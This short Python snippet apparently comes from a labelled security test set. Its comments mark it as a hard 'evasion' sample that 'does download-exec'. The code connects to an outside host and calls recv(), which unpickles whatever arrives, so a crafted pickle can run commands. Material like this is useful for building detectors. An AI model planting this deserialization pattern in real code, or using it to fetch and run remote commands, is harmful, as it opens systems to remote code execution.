# evasion: multiprocessing.connection's Connection.recv() unpickles whatever the remote side sends; the "result" is a pickle whose __reduce__ runs a command
# grade: hard; does: download-exec
from multiprocessing.connection import Client

ADDRESS = ("203.0.113.80", 6000)

with Client(ADDRESS, authkey=b"worker-pool") as conn:
    conn.send({"op": "register", "worker": "build-07"})
    task = conn.recv()
    print("got task", type(task).__name__)
